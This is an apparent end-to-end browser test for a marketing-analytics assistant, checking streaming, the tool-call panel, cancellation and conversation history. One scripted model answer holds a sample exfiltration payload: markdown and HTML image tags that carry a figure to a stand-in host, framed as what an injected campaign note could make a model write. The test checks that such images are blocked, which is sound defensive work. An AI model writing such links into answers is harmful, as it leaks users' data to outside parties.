"""The assistant in a real browser: a marketer asks a question of the demo shop's data; the local OpenAI-compatible
model server (litellm ``openai/<name>``) is scripted to call ``get_metrics`` and then answer. The answer streams in
(Cancel shown, the box off), the "How I got this" panel shows the tool call with its parameters and figures, a
follow-up is cancelled mid-answer, and after a reload the conversation is listed and reopens; then it is deleted."""

from __future__ import annotations

import json
import re

import pytest
from playwright.sync_api import Page, expect

from app.devtools.demo import DEMO_EMAIL
from tests.e2e.helpers import docs_screenshot, log_in, url_is
from tests.utils.llm_server import LlmServer, text, tool_calls
from tests.utils.server import Server

pytestmark = pytest.mark.e2e

PASSWORD = "assistant-demo-1"
QUESTION = "Which campaign has the best ROAS this month?"
ANSWER = (
    "Here is this month by campaign, against the same days before it: **ROAS** is in the table's last columns, and "
    "the Total row adds every campaign up. Open *How I got this* for each figure."
)
# The screenshot for the docs shows the answer above; this one checks what a model could be talked into writing.
SPEND_QUESTION = "How much of its budget did Brand search spend?"
SPEND_ANSWER = (
    "Brand search spent $17 of a $50 budget.\n\n"
    # What a campaign note could talk a model into writing: images would load by themselves, carrying figures away.
    '![chart](http://127.0.0.1:9/leak.png?net=552) <img src="http://127.0.0.1:9/raw.png?net=552">'
)
FOLLOW_UP_ANSWER = "It is up by a third against last month."
# The first answer in a fresh server imports litellm (about ten seconds) before it calls the model.
ANSWER_TIMEOUT_MS = 90_000


def test_a_question_is_answered_with_its_figures_and_the_conversation_reopens(
    server: Server, page: Page, llm_server: LlmServer
) -> None:
    server.cli("seed-demo", "--days", "7", "--sessions-per-day", "30", "--password", PASSWORD, "--reset")
    llm_server.script(
        tool_calls(("get_metrics", {"dimension": "campaign", "preset": "month_to_date"})),
        # Streams "Here is this", then waits until released: the page is looked at mid-answer.
        text(ANSWER, chunk_chars=12, hold_after=1),
    )
    base = server.url
    log_in(page, base, email=DEMO_EMAIL, password=PASSWORD)
    expect(page).to_have_url(url_is(base, "/"))
    page.get_by_role("link", name="Assistant").click()
    expect(page).to_have_url(url_is(base, "/assistant"))

    # An empty conversation suggests questions; none is listed yet.
    expect(page.locator("#suggested-questions .suggestion").first).to_be_visible()
    expect(page.locator("#conversation-list .conversation-item")).to_have_count(0)
    expect(page.locator("#assistant-not-configured")).to_have_count(0)

    box = page.locator("#assistant-input")
    box.fill(QUESTION)
    box.press("Enter")

    # Streaming: the question, the tool call as soon as it finished, the first words; Cancel instead of Send.
    expect(page.locator(".message-user .message-content")).to_have_text(QUESTION)
    expect(box).to_have_value("")
    expect(box).to_be_disabled()
    expect(page.locator("#assistant-cancel")).to_be_visible()
    streaming = page.locator("#streaming-answer")
    expect(streaming.locator(".tool-summary")).to_contain_text("metrics by campaign", timeout=ANSWER_TIMEOUT_MS)
    expect(streaming.locator(".message-content")).to_have_text("Here is this", timeout=ANSWER_TIMEOUT_MS)
    expect(page.locator("#conversation-list .conversation-item")).to_have_count(1)  # listed at once
    assert llm_server.held.wait(10)
    llm_server.release()

    # Done: markdown rendered, the box back, the panel closed until opened.
    answer = page.locator(".message-assistant").last
    expect(answer).to_have_attribute("data-status", "done", timeout=ANSWER_TIMEOUT_MS)
    expect(answer.locator(".message-content strong")).to_have_text("ROAS")
    expect(answer.locator(".message-content em")).to_have_text("How I got this")
    expect(answer.locator(".message-content")).to_contain_text("the Total row adds every campaign up")
    expect(page.locator("#assistant-cancel")).to_have_count(0)
    expect(box).to_be_enabled()
    _check_panel(page)
    docs_screenshot(page, "assistant")

    # The model was offered the tools and sent back the figures the panel shows.
    first, second = llm_server.requests
    assert "get_metrics" in {t["function"]["name"] for t in first["tools"]}
    [sent] = [m for m in second["messages"] if m["role"] == "tool"]
    figures = json.loads(sent["content"])
    assert figures["query"]["dimension"] == "campaign" and figures["query"]["preset"] == "month_to_date"
    net = figures["total"]["figures"]["money"]["EUR"]["net_formatted"]
    expect(page.locator(".how-i-got-this .figure-row").first).to_contain_text(net)  # the Total row

    # Money is money, not math; images in an answer are not loaded (markdown or raw HTML).
    llm_server.reset()
    llm_server.script(text(SPEND_ANSWER))
    box.fill(SPEND_QUESTION)
    box.press("Enter")
    spend = page.locator(".message-assistant").nth(1)
    expect(spend).to_have_attribute("data-status", "done", timeout=ANSWER_TIMEOUT_MS)
    expect(spend.locator(".message-content")).to_contain_text("Brand search spent $17 of a $50 budget")
    expect(spend.locator(".message-content .image-not-shown")).to_have_count(1)
    expect(page.locator(".message-content img")).to_have_count(0)  # neither markdown images nor raw HTML
    expect(box).to_be_enabled()

    # A follow-up, cancelled while it is written: what had arrived stays, marked as cancelled.
    llm_server.reset()  # re-arms the hold (the first answer was released)
    llm_server.script(text(FOLLOW_UP_ANSWER, chunk_chars=9, hold_after=1))
    box.fill("Is that better than last month?")
    box.press("Enter")
    expect(streaming.locator(".message-content")).to_have_text("It is up ", timeout=ANSWER_TIMEOUT_MS)
    page.locator("#assistant-cancel").click()
    cancelled = page.locator(".message-assistant").nth(2)
    expect(cancelled).to_have_attribute("data-status", "cancelled")
    expect(cancelled.locator(".message-status")).to_have_text("Cancelled")
    expect(cancelled.locator(".message-content")).to_have_text("It is up")
    expect(box).to_be_enabled()
    llm_server.release()

    # Reload: the conversation is listed (and still open); a new conversation, then it reopens from the list.
    page.reload()
    item = page.locator("#conversation-list .conversation-item")
    expect(item).to_have_count(1)
    expect(item.locator(".conversation-open")).to_contain_text(QUESTION)
    expect(page.locator(".message-assistant")).to_have_count(3)
    expect(page.locator(".message-assistant .message-content strong")).to_have_text("ROAS")
    page.locator("#new-conversation").click()
    expect(page.locator(".message-assistant")).to_have_count(0)
    expect(page.locator("#suggested-questions")).to_be_visible()
    item.locator(".conversation-open").click()
    expect(page.locator(".message-user .message-content")).to_have_text(
        [QUESTION, SPEND_QUESTION, "Is that better than last month?"]
    )
    expect(page.locator(".message-assistant .message-content strong")).to_have_text("ROAS")
    expect(page.locator(".message-assistant").last).to_have_attribute("data-status", "cancelled")
    expect(item).to_have_attribute("data-conversation", re.compile(r"^conv_"))
    _check_panel(page)

    # Deleted after a confirmation.
    item.locator(".conversation-delete").click()
    page.get_by_role("alertdialog").locator(".confirm").click()
    expect(item).to_have_count(0)
    expect(page.locator(".message-assistant")).to_have_count(0)
    expect(page.locator("#suggested-questions")).to_be_visible()


def _check_panel(page: Page) -> None:
    """The "How I got this" panel: the tool call's summary line, its parameters and its figures, opened by a click."""
    panel = page.locator(".message-assistant").first.locator(".how-i-got-this")
    expect(panel.locator(".how-i-got-this-toggle")).to_have_text("How I got this (1 tool call)")
    expect(panel.locator(".tool-summary")).not_to_be_visible()
    panel.locator(".how-i-got-this-toggle").click()
    call = panel.locator(".tool-call")
    expect(call).to_have_count(1)
    expect(call.locator(".tool-summary")).to_contain_text("metrics by campaign")
    expect(call.locator(".tool-summary")).to_contain_text("last touch")
    expect(call.locator(".tool-name")).to_have_text("get_metrics")
    params = call.locator(".tool-params .tool-param")
    expect(params).to_have_count(2)
    expect(params.first).to_contain_text("dimension")
    expect(params.first).to_contain_text("campaign")
    expect(params.last).to_contain_text("month_to_date")
    rows = call.locator(".figure-row")
    expect(rows.first).to_contain_text("Total")
    expect(call.locator(".tool-figures")).to_contain_text("Brand search")
    expect(call.locator(".tool-figures th").first).to_have_text("label")
    expect(call.locator(".tool-figures th", has_text="EUR roas")).to_have_count(1)
